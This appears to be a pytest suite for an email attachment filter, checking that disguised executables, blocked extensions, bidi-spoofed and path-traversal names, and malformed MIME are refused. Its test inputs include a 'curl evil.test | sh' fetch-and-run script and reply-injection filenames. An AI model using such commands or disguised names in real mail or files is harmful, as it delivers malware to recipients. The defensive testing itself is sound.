"""Tests of postvault.policy.attachments: check_attachments, rule by rule.

Every refusal has an allowed twin that differs only in what the rule is
about, so a rule that grew too broad fails here as surely as one that
stopped working.  Messages are built as raw bytes, so that headers can be
exactly as malformed or tricky as a hostile sender would make them.
"""

from __future__ import annotations

import base64
import io
import struct
import time
import zipfile

import pytest

from postvault.policy.attachments import NameProblem, check_attachments, name_problem
from postvault.policy.decision import ALLOW, Decision
from postvault.policy.schema import DEFAULT_BLOCKED_EXTENSIONS, AttachmentPolicy, MiB
from tests.policy.test_sniff import (
    dicom_file,
    elf_file,
    fat_macho_file,
    java_class_file,
    macho_file,
    pe_file,
)

P = AttachmentPolicy()
BOUNDARY = "=_pv_0123456789"

TEXT_PART = b"Content-Type: text/plain; charset=utf-8\r\n\r\nPlease see the attached referral.\r\n"


# ---------------------------------------------------------------- builders


def b64(data: bytes) -> bytes:
    """Base64 in 76-character CRLF lines, as mail clients write it."""
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def part(headers: str | bytes, data: bytes, cte: str = "base64") -> bytes:
    """One body part: the given header lines, a transfer encoding, the body."""
    head = headers.encode("utf-8") if isinstance(headers, str) else headers
    body = b64(data) if cte == "base64" else data
    enc = f"Content-Transfer-Encoding: {cte}\r\n".encode() if cte else b""
    return head.rstrip(b"\r\n") + b"\r\n" + enc + b"\r\n" + body


def attachment(
    data: bytes,
    filename: str = "referral.pdf",
    ctype: str = "application/octet-stream",
    cte: str = "base64",
) -> bytes:
    return part(
        f'Content-Type: {ctype}; name="{filename}"\r\nContent-Disposition: attachment; filename="{filename}"',
        data,
        cte,
    )


def multipart(*parts: bytes, boundary: str = BOUNDARY, subtype: str = "mixed", headers: str = "") -> bytes:
    """A multipart entity (headers and body) holding ``parts``."""
    b = boundary.encode()
    body = b"".join(b"--" + b + b"\r\n" + p + b"\r\n" for p in parts) + b"--" + b + b"--\r\n"
    head = f'{headers}Content-Type: multipart/{subtype}; boundary="{boundary}"\r\n\r\n'.encode()
    return head + body


def message(*parts: bytes, text: bool = True, boundary: str = BOUNDARY) -> bytes:
    """A whole message: a text part and then ``parts``."""
    top = (
        "From: Front Desk <front@clinic.test>\r\n"
        "To: Dr Ortho <dr@ortho.test>\r\n"
        "Subject: Referral\r\n"
        "Date: Mon, 01 Jan 2024 09:00:00 +0000\r\n"
        "Message-ID: <referral-1@clinic.test>\r\n"
        "MIME-Version: 1.0\r\n"
    )
    return multipart(*((TEXT_PART,) if text else ()), *parts, boundary=boundary, headers=top)


def check(raw: bytes, policy: AttachmentPolicy = P, allow: frozenset[str] = frozenset()) -> Decision:
    return check_attachments(raw, policy, allow)


def make_zip(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


def assert_refused(d: Decision, rule: str, code: int | None = None, enhanced: str | None = None) -> None:
    assert not d.allowed, d
    assert d.rule == rule, d
    if code is not None:
        assert d.code == code, d
    if enhanced is not None:
        assert d.enhanced == enhanced, d
    # Every refusal is one printable ASCII line (it goes into an SMTP reply).
    assert d.text.isascii() and d.text.isprintable(), d.text
    assert len(d.text) < 400, d.text


# ---------------------------------------------------------------- sample files

PDF = (
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(200) + b"\xff\xd9"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00" + bytes(40)
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,;"
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(300)
TIFF = b"II*\x00\x08\x00\x00\x00\x01\x00\x00\x01\x03\x00\x01\x00\x00\x00\x01\x00\x00\x00" + bytes(100)
DICOM = dicom_file()
STL_ASCII = b"solid bridge\n facet normal 0 0 1\n  outer loop\n   vertex 0 0 0\n   vertex 1 0 0\n" * 20
STL_BINARY = b"Exported from the lab scanner".ljust(80, b" ") + struct.pack("<I", 2) + bytes(100)
CSV = b"patient_id,tooth,procedure\n1001,14,crown\n1002,-,cleaning\n"
TXT = b"Referral notes\n--------------\nPlease call the office.\n"


def ooxml(kind: str) -> bytes:
    """A minimal Office Open XML package (docx, xlsx or pptx)."""
    main = {
        "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
        "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
        "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
    }[kind]
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{main[0]}" ContentType="application/vnd.openxmlformats-officedocument.{main[1]}"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="officeDocument" Target="{main[0]}"/></Relationships>'
    )
    return make_zip(
        {
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": rels.encode(),
            main[0]: b'<?xml version="1.0"?><document>' + b"<p>Referral</p>" * 50 + b"</document>",
            "docProps/core.xml": b'<?xml version="1.0"?><coreProperties/>',
            "docProps/thumbnail.jpeg": JPEG,
        }
    )


ALLOWED_FILES = [
    ("pdf", "referral.pdf", "application/pdf", PDF),
    ("jpg", "xray.jpg", "image/jpeg", JPEG),
    ("png", "chart.png", "image/png", PNG),
    ("gif", "logo.gif", "image/gif", GIF),
    ("heic", "IMG_0001.HEIC", "image/heic", HEIC),
    ("tiff", "scan.tiff", "image/tiff", TIFF),
    (
        "docx",
        "letter.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ooxml("docx"),
    ),
    (
        "xlsx",
        "billing.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ooxml("xlsx"),
    ),
    (
        "pptx",
        "slides.pptx",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        ooxml("pptx"),
    ),
    ("txt", "notes.txt", "text/plain", TXT),
    ("csv", "schedule.csv", "text/csv", CSV),
    ("zip", "records.zip", "application/zip", make_zip({"referral.pdf": PDF, "xrays/xray.jpg": JPEG})),
    ("dcm", "ct-scan.dcm", "application/dicom", DICOM),
    ("stl-ascii", "crown.stl", "model/stl", STL_ASCII),
    ("stl-binary", "bridge.stl", "application/sla", STL_BINARY),
]


@pytest.mark.parametrize("filename,ctype,data", [pytest.param(f, c, d, id=i) for i, f, c, d in ALLOWED_FILES])
@pytest.mark.parametrize("cte", ["base64", "quoted-printable-or-7bit"])
def test_allowed_types_pass_intact(filename: str, ctype: str, data: bytes, cte: str) -> None:
    if cte != "base64":
        if not data.isascii():
            import quopri

            raw = message(attachment(quopri.encodestring(data), filename, ctype, "quoted-printable"))
        else:
            raw = message(attachment(data.replace(b"\n", b"\r\n"), filename, ctype, "7bit"))
    else:
        raw = message(attachment(data, filename, ctype))
    copy = bytes(raw)
    assert check(raw) == ALLOW
    assert raw == copy


def test_plain_messages_pass() -> None:
    assert check(message()) == ALLOW
    assert check(b"From: a@b.test\r\nSubject: hi\r\n\r\nHello\r\n") == ALLOW
    assert check(b"") == ALLOW  # nothing to refuse; other layers refuse empty mail


# ---------------------------------------------------------------- names

# (id, refused name, allowed twin, rule)
NAME_CASES = [
    ("exe", "xray.exe", "xray.jpg", "attachment.extension"),
    ("upper-case", "XRAY.EXE", "XRAY.JPG", "attachment.extension"),
    ("double-extension", "scan.exe.pdf", "report.v2.pdf", "attachment.extension"),
    ("inner-with-space", "scan.exe .pdf", "scan.v2 .pdf", "attachment.extension"),
    ("trailing-dots-spaces", "evil.exe. . ", "photo.jpg . ", "attachment.extension"),
    ("trailing-space", "evil.scr ", "photo.jpg ", "attachment.extension"),
    ("dotfile", ".exe", ".pdf", "attachment.extension"),
    ("full-width", "photo.\uff45\uff58\uff45", "photo.\uff4a\uff50\uff47", "attachment.extension"),
    ("path-backslash", "scans\\evil.exe", "C:\\scans\\xray.jpg", "attachment.extension"),
    ("path-slash-trailing", "evil.exe/", "scans/xray.jpg", "attachment.extension"),
    ("path-traversal", "../../Startup/notes.pdf", "scans/notes.pdf", "attachment.name_path"),
    ("path-traversal-backslash", "x.pdf\\..\\..\\y.pdf", "x.pdf\\y.pdf", "attachment.name_path"),
    ("bidi-override", "xray\u202egnp.exe", "xray-gnp.png", "attachment.name_bidi"),
    ("bidi-isolate", "report\u2067fdp.pdf", "report-fdp.pdf", "attachment.name_bidi"),
    ("bidi-embedding", "a\u202ab.pdf", "ab.pdf", "attachment.name_bidi"),
    ("nul", "x.pdf\x00.exe", "x.pdf", "attachment.name_nul"),
]


@pytest.mark.parametrize("bad,good,rule", [pytest.param(b, g, r, id=i) for i, b, g, r in NAME_CASES])
def test_name_problem_table(bad: str, good: str, rule: str) -> None:
    problem = name_problem(bad, DEFAULT_BLOCKED_EXTENSIONS)
    assert problem is not None and problem.rule == rule
    assert name_problem(good, DEFAULT_BLOCKED_EXTENSIONS) is None


def pct(name: str) -> str:
    """RFC 2231 percent-encoding of a UTF-8 name."""
    return "".join(c if c.isalnum() or c in "._-" else "".join(f"%{b:02X}" for b in c.encode()) for c in name)


def q_word(name: str) -> str:
    return (
        "=?utf-8?Q?"
        + "".join(c if c.isalnum() else "".join(f"={b:02X}" for b in c.encode()) for c in name)
        + "?="
    )


def b_word(name: str) -> str:
    return "=?utf-8?B?" + base64.b64encode(name.encode()).decode() + "?="


# Where a name can hide.  {n} is the name under test; "cover.pdf" is the
# harmless name a sender would show elsewhere in the same part.
NAME_PLACES = {
    "disposition-filename": lambda n: (
        f'Content-Type: application/pdf; name="cover.pdf"\r\nContent-Disposition: attachment; filename="{n}"'
    ),
    "content-type-name": lambda n: (
        f'Content-Type: application/pdf; name="{n}"\r\nContent-Disposition: attachment; filename="cover.pdf"'
    ),
    "content-type-filename": lambda n: f'Content-Type: application/pdf; filename="{n}"',
    "unquoted": lambda n: f"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename={n}",
    "folded": lambda n: (
        f'Content-Type: application/pdf\r\nContent-Disposition: attachment;\r\n\tfilename="{n}"'
    ),
    "rfc2231-extended": lambda n: (
        'Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="cover.pdf";'
        f"\r\n filename*=utf-8''{pct(n)}"
    ),
    "rfc2231-extended-name": lambda n: f"Content-Type: application/pdf; name*=utf-8'en'{pct(n)}",
    "rfc2231-continuation-encoded": lambda n: (
        "Content-Type: application/pdf\r\nContent-Disposition: attachment;\r\n"
        f" filename*0*=utf-8''{pct(n[:3])};\r\n filename*1*={pct(n[3:6])};\r\n filename*2*={pct(n[6:])}"
    ),
    "rfc2231-continuation-plain": lambda n: (
        "Content-Type: application/pdf\r\nContent-Disposition: attachment;\r\n"
        f' filename*0="{n[:4]}"; filename*1="{n[4:]}"'
    ),
    "rfc2231-continuation-out-of-order": lambda n: (
        "Content-Type: application/pdf\r\nContent-Disposition: attachment;\r\n"
        f' filename*1="{n[4:]}"; filename*0="{n[:4]}"'
    ),
    "rfc2047-b-in-name": lambda n: f'Content-Type: application/pdf; name="{b_word(n)}"',
    "rfc2047-q-in-filename": lambda n: (
        f'Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="{q_word(n)}"'
    ),
    "rfc2047-split-words": lambda n: (
        "Content-Type: application/pdf\r\nContent-Disposition: attachment;"
        f' filename="{q_word(n[:5])} {q_word(n[5:])}"'
    ),
    "duplicate-filename": lambda n: (
        f'Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="cover.pdf"; filename="{n}"'
    ),
}

# (id, bad name, its twin).  The twins keep the length and shape.
PLACED_NAMES = [
    ("extension", "scanfile.exe", "scanfile.pdf"),
    ("double", "scan.exe.pdf", "scan.v2.pdf"),
    ("bidi", "xray\u202egnp.exe", "xray_gnp.png"),
]


@pytest.mark.parametrize("place", sorted(NAME_PLACES))
@pytest.mark.parametrize("bad,good", [pytest.param(b, g, id=i) for i, b, g in PLACED_NAMES])
def test_every_name_is_checked_wherever_it_hides(place: str, bad: str, good: str) -> None:
    header = NAME_PLACES[place]
    refused = check(message(part(header(bad), PDF)))
    assert not refused.allowed, (place, bad)
    assert refused.rule in ("attachment.extension", "attachment.name_bidi")
    assert check(message(part(header(good), PDF))) == ALLOW


def test_rfc2231_percent_encoded_nul_and_controls() -> None:
    hdr = "Content-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''x.pdf%00.exe"
    assert_refused(check(message(part(hdr, PDF))), "attachment.name_nul", 550, "5.7.1")
    # Control characters are not a reason to refuse, but never reach the reply.
    hdr = "Content-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''x%0D%0A250%20OK.exe"
    d = check(message(part(hdr, PDF)))
    assert_refused(d, "attachment.extension")
    assert "\r" not in d.text and "\n" not in d.text


def test_eight_bit_utf8_name_with_bidi_is_refused() -> None:
    head = 'Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="xray\u202egnp.exe"'
    assert_refused(check(message(part(head.encode("utf-8"), PDF))), "attachment.name_bidi")
    twin = 'Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="Röntgen.pdf"'
    assert check(message(part(twin.encode("utf-8"), PDF))) == ALLOW


def test_unknown_charset_still_decodes_ascii() -> None:
    hdr = "Content-Type: application/pdf; name*=x-unknown-charset''scan.exe"
    assert_refused(check(message(part(hdr, PDF))), "attachment.extension")


def test_refusal_names_the_file_and_type() -> None:
    d = check(message(attachment(PDF, "xray.exe")))
    assert_refused(d, "attachment.extension", 550, "5.7.1")
    assert d.text == (
        "Files of type .exe are not allowed (xray.exe). "
        "Ask the office you are writing with to allow this type if it is safe."
    )
    assert d.imap_code == "CANNOT"


def test_rule_ids_never_carry_names() -> None:
    for bad, _, _ in PLACED_NAMES:
        d = check(message(attachment(PDF, bad)))
        assert "scan" not in d.rule and "xray" not in d.rule


def test_long_and_hostile_names_cannot_shape_the_reply() -> None:
    long_name = "A" * 10_000 + "\u202e\r\n550 fake\x07.exe"
    hdr = (
        f"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''{pct(long_name)}"
    )
    d = check(message(part(hdr, PDF)))
    assert not d.allowed
    assert d.text.isascii() and d.text.isprintable()
    assert len(d.text) < 300
    assert "\r" not in d.text and "\n" not in d.text and "\u202e" not in d.text


def test_name_problem_api() -> None:
    assert name_problem("a.exe", frozenset({"exe"})) == NameProblem("attachment.extension", "exe")
    assert name_problem("a.exe", frozenset({"exe"}), frozenset({"exe"})) is None
    assert name_problem("noextension", frozenset({"exe"})) is None


# ---------------------------------------------------------------- office exceptions


def test_exception_lifts_a_blocked_extension() -> None:
    assert "iso" in DEFAULT_BLOCKED_EXTENSIONS
    iso = bytes(0x8001) + b"CD001" + bytes(2000)  # an ISO 9660 image: not a program
    raw = message(attachment(iso, "implant-plan.iso"))
    assert_refused(check(raw), "attachment.extension")
    assert check(raw, allow=frozenset({"iso"})) == ALLOW
    assert check(raw, allow=frozenset({".ISO"})) == ALLOW  # dots and case do not matter
    # An inner segment is lifted the same way.
    assert check(message(attachment(PDF, "plan.iso.pdf")), allow=frozenset({"iso"})) == ALLOW
    # Only the extensions named are lifted.
    assert_refused(check(message(attachment(PDF, "x.exe")), allow=frozenset({"iso"})), "attachment.extension")


def test_exception_lifts_xz_archives_which_are_still_scanned() -> None:
    import lzma

    assert "xz" in DEFAULT_BLOCKED_EXTENSIONS
    good = message(attachment(lzma.compress(PDF), "scan.pdf.xz"))
    assert_refused(check(good), "attachment.extension")
    assert check(good, allow=frozenset({"xz"})) == ALLOW
    bad = message(attachment(lzma.compress(pe_file()), "scan.pdf.xz"))
    assert_refused(check(bad, allow=frozenset({"xz"})), "attachment.executable")


def test_exception_never_lifts_a_sniffed_program() -> None:
    raw = message(attachment(pe_file(), "implant-plan.iso"))
    assert_refused(check(raw, allow=frozenset({"iso"})), "attachment.executable", 550, "5.7.1")
    assert_refused(check(raw, allow=frozenset({"iso", "exe"})), "attachment.executable")


def test_exception_never_lifts_a_disguised_name() -> None:
    raw = message(attachment(PDF, "plan\u202egnp.iso"))
    assert_refused(check(raw, allow=frozenset({"iso"})), "attachment.name_bidi")
    hdr = "Content-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''plan%00.iso"
    assert_refused(check(message(part(hdr, PDF)), allow=frozenset({"iso"})), "attachment.name_nul")


def test_exception_applies_inside_archives() -> None:
    raw = message(attachment(make_zip({"plan.iso": bytes(3000)}), "plans.zip"))
    assert_refused(check(raw), "attachment.extension")
    assert check(raw, allow=frozenset({"iso"})) == ALLOW


# ---------------------------------------------------------------- content sniffing

# (id, program bytes, name, content type, harmless twin bytes)
SNIFF_CASES = [
    ("pe-as-pdf", pe_file(), "xray.pdf", "application/pdf", PDF),
    ("elf-as-jpg", elf_file(), "xray.jpg", "image/jpeg", JPEG),
    ("macho-as-png", macho_file(), "chart.png", "image/png", PNG),
    ("fat-macho-as-dcm", fat_macho_file(), "scan.dcm", "application/dicom", DICOM),
    ("java-as-docx", java_class_file(), "letter.docx", "application/octet-stream", ooxml("docx")),
    (
        "shebang-as-txt",
        b"#!/bin/sh\ncurl evil.test | sh\n",
        "notes.txt",
        "text/plain",
        b"# notes\nCall us.\n",
    ),
    ("pe-dicom-polyglot", pe_file()[:128] + DICOM[128:], "scan.dcm", "application/dicom", DICOM),
]


@pytest.mark.parametrize(
    "program,name,ctype,twin", [pytest.param(p, n, c, t, id=i) for i, p, n, c, t in SNIFF_CASES]
)
def test_programs_are_refused_whatever_their_name(program: bytes, name: str, ctype: str, twin: bytes) -> None:
    d = check(message(attachment(program, name, ctype)))
    assert_refused(d, "attachment.executable", 550, "5.7.1")
    assert name in d.text
    assert check(message(attachment(twin, name, ctype))) == ALLOW


def test_shebang_script_in_7bit_text_attachment_is_refused() -> None:
    script = b"#!/bin/bash\r\necho hello\r\n"
    assert_refused(
        check(message(attachment(script, "notes.txt", "text/plain", "7bit"))), "attachment.executable"
    )
    # The message body itself is text, not a file: a pasted script is fine.
    body = b"Content-Type: text/plain\r\n\r\n#!/bin/bash\r\necho hello\r\n"
    assert check(message(body, text=False)) == ALLOW


def test_unnamed_binary_part_is_sniffed() -> None:
    raw = message(part("Content-Type: application/octet-stream", pe_file()))
    d = check(raw)
    assert_refused(d, "attachment.executable")
    assert "unnamed application/octet-stream attachment" in d.text


def test_sniffing_can_be_turned_off() -> None:
    raw = message(attachment(pe_file(), "xray.pdf", "application/pdf"))
    assert check(raw, AttachmentPolicy(sniff_content=False)) == ALLOW
    # ... but extensions are still checked.
    assert_refused(
        check(message(attachment(PDF, "x.exe")), AttachmentPolicy(sniff_content=False)),
        "attachment.extension",
    )


def test_whole_message_as_a_file() -> None:
    head = b'From: a@b.test\r\nMIME-Version: 1.0\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="x.pdf"\r\n'
    assert_refused(
        check(head + b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(pe_file())), "attachment.executable"
    )
    assert check(head + b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(PDF)) == ALLOW


# ---------------------------------------------------------------- sizes


def sized(n: int) -> bytes:
    """n bytes of PDF-looking content (fast to build, not all zeros)."""
    return (PDF + bytes(range(256)) * (n // 256 + 1))[:n]


@pytest.mark.parametrize(
    "size,allowed",
    [
        pytest.param(15 * MiB - 1024, True, id="15MiB-1KiB"),
        pytest.param(15 * MiB, True, id="15MiB"),
        pytest.param(15 * MiB + 1, False, id="15MiB+1"),
    ],
)
@pytest.mark.parametrize("cte", ["base64", "8bit"])
def test_size_limit_is_exact(size: int, allowed: bool, cte: str) -> None:
    data = sized(size)
    if cte == "8bit":
        # Identity encoding: the body is the file (no CR or LF, so the
        # parser keeps every byte as is).
        data = data.replace(b"\r", b"r").replace(b"\n", b"n")
    raw = message(attachment(data, "big-scan.pdf", "application/pdf", cte))
    d = check(raw)
    if allowed:
        assert d == ALLOW
    else:
        assert_refused(d, "attachment.size", 552, "5.3.4")
        assert d.text == (
            'The attachment "big-scan.pdf" is 15.1 MiB; the limit is 15 MiB per file. '
            "Send it in parts or as a smaller file."
        )
        assert d.imap_code == "TOOBIG"


def test_size_text_example() -> None:
    d = check(message(attachment(sized(int(16.2 * MiB) - 10), "x.pdf")))
    assert d.text.startswith('The attachment "x.pdf" is 16.2 MiB; the limit is 15 MiB per file.')


def test_size_limit_follows_the_policy() -> None:
    policy = AttachmentPolicy(max_size=100 * 1024)
    assert check(message(attachment(sized(100 * 1024))), policy) == ALLOW
    d = check(message(attachment(sized(100 * 1024 + 1))), policy)
    assert_refused(d, "attachment.size")
    assert "the limit is 100 KiB per file" in d.text


def test_quoted_printable_size() -> None:
    import quopri

    policy = AttachmentPolicy(max_size=10_000)
    data = b"=" * 5_000  # each "=" becomes "=3D": 15,000 encoded bytes
    assert (
        check(
            message(attachment(quopri.encodestring(data), "a.txt", "text/plain", "quoted-printable")), policy
        )
        == ALLOW
    )
    data = b"x" * 10_001
    d = check(
        message(attachment(quopri.encodestring(data), "a.txt", "text/plain", "quoted-printable")), policy
    )
    assert_refused(d, "attachment.size")


def test_message_size_limit() -> None:
    policy = AttachmentPolicy(max_message_size=10_000)
    assert check(message(attachment(sized(5_000))), policy) == ALLOW
    assert_refused(check(message(attachment(sized(9_000))), policy), "message.size", 552, "5.3.4")


# ---------------------------------------------------------------- encodings


B64_HEAD = b'Content-Type: application/pdf; name="a.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n'


def test_base64_with_junk_or_early_padding_is_refused() -> None:
    # Decoders disagree on junk and on data after "=": refuse rather than guess.
    good = b64(PDF)
    for bad in (b"!!" + good, good[:8] + b"==" + good[8:], good[:4] + b"*" + good[4:]):
        assert_refused(check(message(B64_HEAD + bad)), "attachment.encoding", 554, "5.6.0")
    assert check(message(B64_HEAD + good)) == ALLOW


def test_missing_base64_padding_is_tolerated() -> None:
    assert check(message(B64_HEAD + base64.b64encode(PDF[:10]).rstrip(b"="))) == ALLOW


@pytest.mark.parametrize("cte", ["x-uuencode", "base-64", "gzip"])
def test_unknown_transfer_encoding_is_refused(cte: str) -> None:
    raw = message(attachment(PDF, "a.pdf", "application/pdf", cte))
    assert_refused(check(raw), "attachment.encoding")


def test_transfer_encoding_case_and_comments() -> None:
    head = B64_HEAD.replace(b"base64", b"BASE64 (binary data)")
    assert_refused(check(message(head + b64(pe_file()))), "attachment.executable")
    assert check(message(head + b64(PDF))) == ALLOW


# ---------------------------------------------------------------- MIME structure


def nested(depth: int, leaf: bytes) -> bytes:
    """``depth`` multiparts, one inside the other, around ``leaf``."""
    entity = leaf
    for level in range(depth):
        entity = multipart(entity, boundary=f"b{level}")
    return entity


def top(entity: bytes) -> bytes:
    return b"From: a@b.test\r\nTo: c@d.test\r\nMIME-Version: 1.0\r\n" + entity


def test_nesting_depth_limit() -> None:
    # The top-level multipart is level 0; a leaf under 20 multiparts sits at depth 20.
    assert check(top(nested(20, attachment(PDF)))) == ALLOW
    d = check(top(nested(21, attachment(PDF))))
    assert_refused(d, "mime.depth", 554, "5.6.0")
    assert d.imap_code == "LIMIT"


def test_deep_nesting_is_refused_quickly() -> None:
    start = time.perf_counter()
    assert_refused(check(top(nested(2000, TEXT_PART))), "mime.depth")
    assert time.perf_counter() - start < 2.0


def test_part_count_limit() -> None:
    policy = AttachmentPolicy()
    leaves = [attachment(PDF, f"p{i}.pdf") for i in range(policy.max_parts)]
    assert check(message(*leaves, text=False)) == ALLOW
    d = check(message(*leaves, attachment(PDF, "one-more.pdf"), text=False))
    assert_refused(d, "mime.parts", 554, "5.6.0")


def headers(n: int) -> str:
    return "".join(f"X-Filler-{i}: value {i}\r\n" for i in range(n))


def test_header_count_limit_top_level() -> None:
    base = message(attachment(PDF))
    existing = base.split(b"\r\n\r\n", 1)[0].count(b"\r\n") + 1
    ok = headers(P.max_headers - existing).encode() + base
    assert check(ok) == ALLOW
    assert_refused(check(headers(1).encode() + ok), "mime.headers", 554, "5.6.0")


def test_header_count_limit_in_a_part() -> None:
    extra = headers(P.max_headers - 3)  # plus Content-Type, -Disposition, -Transfer-Encoding
    ok = message(
        part(
            extra + 'Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="a.pdf"', PDF
        )
    )
    assert check(ok) == ALLOW
    bad = message(
        part(
            headers(1)
            + extra
            + 'Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="a.pdf"',
            PDF,
        )
    )
    assert_refused(check(bad), "mime.headers")


def test_folded_header_lines_count_as_one_field() -> None:
    folded = "".join(f"X-Long-{i}: a\r\n b\r\n c\r\n" for i in range(P.max_headers - 10))
    assert check(folded.encode() + message(attachment(PDF))) == ALLOW


@pytest.mark.parametrize("where", ["top", "part"])
def test_hundred_thousand_headers_refused_in_well_under_a_second(where: str) -> None:
    many = headers(100_000).encode()
    if where == "top":
        raw = many + message(attachment(PDF))
    else:
        raw = message(part(many + b'Content-Type: application/pdf; name="a.pdf"', PDF))
    start = time.perf_counter()
    assert_refused(check(raw), "mime.headers")
    assert time.perf_counter() - start < 0.5


def test_many_boundary_like_lines_are_refused_quickly() -> None:
    raw = message(attachment(b"--\n" * 300_000, "a.txt", "text/plain", "7bit"))
    start = time.perf_counter()
    assert_refused(check(raw), "mime.parts")
    assert time.perf_counter() - start < 2.0


def test_nested_message_is_checked() -> None:
    inner_bad = message(attachment(PDF, "xray.exe"))
    inner_good = message(attachment(PDF, "xray.pdf"))
    for inner, ok in ((inner_bad, False), (inner_good, True)):
        fwd = part(
            'Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="fwd.eml"',
            inner,
            cte="7bit",
        )
        d = check(message(fwd, boundary="outer-boundary"))
        assert d.allowed is ok, d


def test_attached_message_names_are_checked() -> None:
    inner = message(attachment(PDF, "xray.pdf"), boundary="inner")
    for name, ok in (("invoice.exe", False), ("forwarded.eml", True)):
        fwd = part(
            f'Content-Type: message/rfc822; name="{name}"\r\nContent-Disposition: attachment',
            inner,
            cte="7bit",
        )
        assert check(message(fwd)).allowed is ok


# (id, malformed message, its well-formed twin)
def _malformed_cases() -> list[tuple[str, bytes, bytes]]:
    head = b"From: a@b.test\r\nMIME-Version: 1.0\r\n"
    att = attachment(PDF, "a.pdf")
    good = head + multipart(att)
    return [
        (
            "multipart-without-boundary",
            head + b"Content-Type: multipart/mixed\r\n\r\n--x\r\n" + att + b"\r\n--x--\r\n",
            good,
        ),
        (
            "start-boundary-never-found",
            head
            + b'Content-Type: multipart/mixed; boundary="nothere"\r\n\r\n--x\r\n'
            + att
            + b"\r\n--x--\r\n",
            good,
        ),
        (
            "base64-multipart",
            head + multipart(att, headers="Content-Transfer-Encoding: base64\r\n"),
            head + multipart(att, headers="Content-Transfer-Encoding: 7bit\r\n"),
        ),
        (
            "base64-message-rfc822",
            head
            + multipart(part('Content-Type: message/rfc822; name="f.eml"', message(att, boundary="inner"))),
            head
            + multipart(
                part('Content-Type: message/rfc822; name="f.eml"', message(att, boundary="inner"), cte="7bit")
            ),
        ),
        (
            "duplicate-content-type",
            head + multipart(b"Content-Type: application/pdf\r\n" + att),
            good,
        ),
        (
            "duplicate-transfer-encoding",
            head + multipart(b"Content-Transfer-Encoding: 7bit\r\n" + att),
            good,
        ),
        (
            "headers-without-blank-line",
            head + multipart(b'Content-Type: application/pdf; name="a.pdf"\r\n' + b64(PDF)),
            head + multipart(b'Content-Type: application/pdf; name="a.pdf"\r\n\r\n' + PDF),
        ),
    ]


@pytest.mark.parametrize("bad,good", [pytest.param(b, g, id=i) for i, b, g in _malformed_cases()])
def test_malformed_structure_is_refused(bad: bytes, good: bytes) -> None:
    assert_refused(check(bad), "mime.malformed", 554, "5.6.0")
    assert check(good) == ALLOW


def test_missing_close_boundary_is_tolerated() -> None:
    raw = message(attachment(PDF))
    assert check(raw.rsplit(b"--" + BOUNDARY.encode() + b"--", 1)[0]) == ALLOW
    bad = message(attachment(PDF, "x.exe"))
    assert_refused(check(bad.rsplit(b"--" + BOUNDARY.encode() + b"--", 1)[0]), "attachment.extension")


def test_bare_cr_and_lf_line_endings() -> None:
    for eol in (b"\n", b"\r"):
        raw = message(attachment(PDF, "x.exe")).replace(b"\r\n", eol)
        assert_refused(check(raw), "attachment.extension")
        raw = message(attachment(PDF, "x.pdf")).replace(b"\r\n", eol)
        assert check(raw) == ALLOW
